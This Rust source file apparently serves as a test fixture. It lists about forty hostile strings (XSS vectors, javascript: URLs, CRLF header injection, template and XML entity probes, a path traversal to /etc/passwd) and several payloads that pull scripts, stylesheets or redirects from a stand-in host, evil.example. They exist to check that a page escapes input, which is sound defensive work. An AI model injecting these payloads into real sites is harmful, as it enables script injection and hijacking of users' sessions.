//! Hostile text of our own: what someone puts into a headline, a file's name or an address in the hope that a page runs it.

/// The attacks.
pub const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript></template><img src=x onerror=alert(1)>",
    "</mark></a></h3><svg/onload=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "x\" style=\"position:fixed;inset:0\" a=\"",
    "` onclick=alert(1) `",
    "javascript:alert(1)",
    "jAvA\tScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/a?b=\"c\"",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "<!-- ",
    " --!><b>",
    "]]><b>",
    "<![CDATA[<b>",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"c\">]>&b;",
    "{{7*7}} {% include \"x\" %} ${7*7}",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<mark id=\"q\" name=\"q\">",
    "<base href=//evil.example/>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=//evil.example/><input name=q>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css';</style>",
    "<a href=\"javascript:alert(1)\" target=_blank>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "a\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "\u{202e}<script>alert(1)</script>\u{202c}",
    "\u{1b}]8;;javascript:alert(1)\u{7}\u{1b}[31m<b>",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<\u{0}script>alert(1)</script>",
    "../../../../etc/passwd\" onload=\"alert(1)",
];

/// What stands in place of an attack where a page without one is wanted.
pub fn harmless(number: usize) -> String {
    format!("Ein gewöhnlicher Name {number}")
}
